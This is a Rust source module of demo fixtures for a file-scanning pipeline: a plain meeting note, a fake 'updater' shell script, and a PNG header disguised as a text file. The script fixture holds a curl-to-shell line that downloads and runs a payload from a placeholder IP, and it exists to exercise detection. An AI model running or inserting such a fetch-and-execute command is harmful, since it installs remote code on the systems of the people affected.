//! Pre-bundled demo files.
//!
//! These are inert fixtures for trying the pipeline without picking a real
//! file: a plain note, a script with the shape of a dropper, and a file
//! whose magic bytes disagree with its extension. None of them are
//! executable payloads.

use crate::intake::handle::FileHandle;

/// A named demo fixture.
#[derive(Debug, Clone, Copy)]
pub struct Sample {
    pub name: &'static str,
    pub mime_type: &'static str,
    pub bytes: &'static [u8],
}

const SAFE_NOTE: &[u8] = b"Meeting notes 2024-03-14\n\n- ship the quarterly report\n- book the offsite\n";

const SUSPICIOUS_SCRIPT: &[u8] =
    b"#!/bin/sh\n# updater\ncurl -s http://203.0.113.7/payload.sh | sh\n";

// PNG signature followed by junk, but named as a text file.
const MISMATCHED_HEADER: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d,
];

pub const SAMPLES: &[Sample] = &[
    Sample {
        name: "notes.txt",
        mime_type: "text/plain",
        bytes: SAFE_NOTE,
    },
    Sample {
        name: "update.sh",
        mime_type: "text/x-shellscript",
        bytes: SUSPICIOUS_SCRIPT,
    },
    Sample {
        name: "readme.txt",
        mime_type: "text/plain",
        bytes: MISMATCHED_HEADER,
    },
];

/// Look up a demo fixture by name.
pub fn by_name(name: &str) -> Option<FileHandle> {
    SAMPLES
        .iter()
        .find(|s| s.name == name)
        .map(|s| FileHandle::from_bytes(s.name, s.mime_type, s.bytes))
}

/// Names of all bundled fixtures, in display order.
pub fn names() -> Vec<&'static str> {
    SAMPLES.iter().map(|s| s.name).collect()
}
